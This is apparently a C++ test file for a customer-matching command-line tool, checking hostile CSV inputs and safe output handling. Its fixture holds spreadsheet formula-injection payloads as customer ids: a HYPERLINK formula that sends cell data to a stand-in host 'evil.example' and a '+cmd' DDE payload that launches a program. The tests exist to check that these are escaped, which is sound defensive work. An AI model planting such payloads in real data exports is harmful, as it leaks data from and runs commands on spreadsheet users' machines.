// What a careless or hostile user tries, against real nodes: values that would cut a
// string short, overlong values, very wide files, cells that a spreadsheet would run,
// and output files that must never be half written, truncated or left readable.
#include "tests/support/entente-cli.h"

#include <signal.h>

#include <catch2/catch.hpp>

#include <sys/stat.h>

#include <fstream>
#include <sstream>

using namespace entente;
using namespace entente::testing;

namespace {

mode_t modeOf(const std::filesystem::path& file) {
  struct stat st;
  REQUIRE(::stat(file.c_str(), &st) == 0);
  return st.st_mode & 0777;
}

uint64_t customers(TestNetwork& net, const std::string& node) {
  auto r = net.run(node, {"node", "status", "--json"});
  REQUIRE(r.exitCode == 0);
  return jsonNumber(r.out, "customers");
}

void writeFile(const std::filesystem::path& file, const std::string& text) {
  std::ofstream out(file, std::ios::binary);
  out << text;
}

// Two paired nodes, the requester's customers with ids a spreadsheet would run.
struct FormulaIds {
  TestNetwork net;
  FormulaIds() {
    net.addNode("boats", "FR");
    net.addNode("travel", "FR");
    net.pair("boats", "travel");
    REQUIRE(net.run("travel", {"peer", "policy", "boats", "--min-query", "1", "--min-overlap", "0"}).exitCode == 0);
    REQUIRE(net.run("boats", {"peer", "policy", "travel", "--min-query", "1", "--min-overlap", "0"}).exitCode == 0);
    writeFile(net.root() / "boats.csv",
              "customer_id,email,consent_overlap-analysis,consent_cross-selling\n"
              "\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",ana@example.pt,yes,yes\n"
              "+cmd|' /C calc'!A0,joao@example.pt,yes,yes\n"
              "B3,eva@example.fi,yes,yes\n");
    writeFile(net.root() / "travel.csv",
              "customer_id,email,consent_overlap-analysis,consent_cross-selling\n"
              "T1,ana@example.pt,yes,yes\nT2,joao@example.pt,yes,yes\nT3,eva@example.fi,yes,yes\n");
    REQUIRE(net.run("boats", {"import", (net.root() / "boats.csv").string()}).exitCode == 0);
    REQUIRE(net.run("travel", {"import", (net.root() / "travel.csv").string()}).exitCode == 0);
  }
  CliResult matchIds(std::vector<std::string> extra = {}) {
    std::vector<std::string> args = {"match", "--peer", "travel", "--purpose", "cross-selling", "--mode", "ids",
                                     "--kinds", "email"};
    args.insert(args.end(), extra.begin(), extra.end());
    return net.run("boats", args);
  }
  size_t sessionsServed() {
    auto log = readFile(net.dir("travel") / "node.log");
    size_t n = 0;
    for (size_t at = log.find("session.serve actor=boats outcome=opened"); at != std::string::npos;
         at = log.find("session.serve actor=boats outcome=opened", at + 1)) {
      ++n;
    }
    return n;
  }
};

}  // namespace

TEST_CASE("a customer_id with a NUL byte is rejected with its line and changes no other customer") {
  TestNetwork net;
  net.addNode("boats", "FR");
  writeFile(net.root() / "crm.csv",
            "customer_id,email,consent_overlap-analysis\n"
            "U-1,ana@example.pt,yes\n");
  REQUIRE(net.run("boats", {"import", (net.root() / "crm.csv").string()}).exitCode == 0);
  using namespace std::string_literals;  // a literal with a NUL inside, whole
  writeFile(net.root() / "nul.csv",
            "customer_id,email,consent_overlap-analysis\nU-1\0-other,joao@example.pt,no\nU-2,eva@example.fi,yes\n"s);
  auto r = net.run("boats", {"import", (net.root() / "nul.csv").string(), "--json"});
  CHECK_THAT(r.err, Catch::Contains("nul.csv:2: rejected: customer_id contains a NUL byte"));
  CHECK(jsonNumber(r.out, "inserted") == 1);  // U-2
  CHECK(jsonNumber(r.out, "updated") == 0);   // U-1 untouched
  auto consent = net.run("boats", {"consent", "show", "U-1"});
  REQUIRE(consent.exitCode == 0);
  CHECK_THAT(consent.out, Catch::Contains("granted"));
  CHECK(customers(net, "boats") == 2);
}

TEST_CASE("one overlong identifier is dropped from its own row with the line, and the whole file goes in") {
  TestNetwork net;
  net.addNode("boats", "FR");
  std::string file = "customer_id,email,first_name\n";
  for (int i = 1; i <= 1500; ++i) {
    std::string email = "person" + std::to_string(i) + "@example.fr";
    if (i == 700) email = std::string(600, 'a') + "@example.fr";  // past LMDB's key limit
    std::string name = i == 900 ? std::string(300, 'n') : "Ana";
    file += "C" + std::to_string(i) + "," + email + "," + name + "\n";
  }
  writeFile(net.root() / "long.csv", file);
  auto r = net.run("boats", {"import", (net.root() / "long.csv").string(), "--json"});
  CHECK_THAT(r.err, Catch::Contains("long.csv:701: email dropped, customer kept: email: longer than 254 bytes"));
  CHECK_THAT(r.err, Catch::Contains("long.csv:901: first_name dropped, customer kept"));
  CHECK(jsonNumber(r.out, "inserted") == 1500);
  CHECK(jsonNumber(r.out, "rejected") == 0);
  CHECK(customers(net, "boats") == 1500);
}

TEST_CASE("a file of ten thousand columns imports whole") {
  TestNetwork net;
  net.addNode("boats", "FR");
  std::string header = "customer_id,email";
  for (int c = 0; c < 10000; ++c) header += ",attr" + std::to_string(c);
  std::string file = header + "\n";
  for (int i = 0; i < 50; ++i) {
    file += "C" + std::to_string(i) + ",p" + std::to_string(i) + "@example.fr";
    for (int c = 0; c < 10000; ++c) file += ",v" + std::to_string(c % 97);
    file += "\n";
  }
  writeFile(net.root() / "wide.csv", file);
  auto r = net.run("boats", {"import", (net.root() / "wide.csv").string(), "--json"});
  REQUIRE(r.exitCode == 0);
  CHECK(jsonNumber(r.out, "inserted") == 50);
  CHECK(customers(net, "boats") == 50);
}

TEST_CASE("matched ids that a spreadsheet would run are written as text, in a private file") {
  FormulaIds firms;
  auto out = firms.net.root() / "shared.csv";
  auto r = firms.matchIds({"--out", out.string()});
  REQUIRE(r.exitCode == 0);
  auto text = readFile(out);
  CHECK_THAT(text, Catch::Contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",email"));
  CHECK_THAT(text, Catch::Contains("\"'+cmd|' /C calc'!A0\",email"));
  CHECK(modeOf(out) == 0600);
  // On standard output too.
  auto stdoutIds = firms.matchIds();
  REQUIRE(stdoutIds.exitCode == 0);
  CHECK_THAT(stdoutIds.out, Catch::Contains("\"'+cmd|' /C calc'!A0\""));
}

TEST_CASE("an existing --out file is kept unless --force, and a missing folder is refused before the session") {
  FormulaIds firms;
  auto out = firms.net.root() / "shared.csv";
  writeFile(out, "keep me\n");
  auto kept = firms.matchIds({"--out", out.string()});
  CHECK(kept.exitCode == 2);
  CHECK_THAT(kept.err, Catch::Contains("already exists") && Catch::Contains("--force"));
  CHECK(readFile(out) == "keep me\n");
  auto missing = firms.matchIds({"--out", (firms.net.root() / "no-such-folder" / "x.csv").string()});
  CHECK(missing.exitCode == 2);
  CHECK_THAT(missing.err, Catch::Contains("folder does not exist"));
  // Neither ran a session on the partner.
  CHECK(firms.sessionsServed() == 0);
  auto forced = firms.matchIds({"--out", out.string(), "--force"});
  REQUIRE(forced.exitCode == 0);
  CHECK_THAT(readFile(out), Catch::StartsWith("customer_id,matched_kinds\n"));
  CHECK(firms.sessionsServed() == 1);
}

TEST_CASE("a withheld match writes no file at all") {
  FormulaIds firms;
  REQUIRE(firms.net.run("boats", {"peer", "policy", "travel", "--min-overlap", "100"}).exitCode == 0);
  auto out = firms.net.root() / "shared.csv";
  auto r = firms.matchIds({"--out", out.string()});
  REQUIRE(r.exitCode == 0);
  CHECK_THAT(r.out, Catch::Contains("was not written"));
  CHECK_FALSE(std::filesystem::exists(out));
}

TEST_CASE("a refused audit export leaves an existing --out file as it was") {
  TestNetwork net;
  net.addNode("boats", "FR");
  auto token = net.run("boats", {"token", "create", "--name", "mia", "--role", "marketer"});
  REQUIRE(token.exitCode == 0);
  auto tokenFile = net.root() / "mia.token";
  writeFile(tokenFile, token.out);
  auto out = net.root() / "audit.jsonl";
  writeFile(out, "last month's export\n");
  auto refused = net.run("boats", {"audit", "export", "--out", out.string(), "--force", "--token-file",
                                   tokenFile.string()});
  CHECK(refused.exitCode == 1);
  CHECK_THAT(refused.err, Catch::Contains("may not export the audit log"));
  CHECK(readFile(out) == "last month's export\n");
  net.process("boats").stop(SIGTERM);
  auto down = net.run("boats", {"audit", "export", "--out", out.string(), "--force"});
  CHECK(down.exitCode == 3);
  CHECK(readFile(out) == "last month's export\n");
  // No temporary file is left beside it either.
  for (auto& entry : std::filesystem::directory_iterator(net.root())) {
    CHECK_THAT(entry.path().filename().string(), !Catch::EndsWith(".tmp"));
  }
}
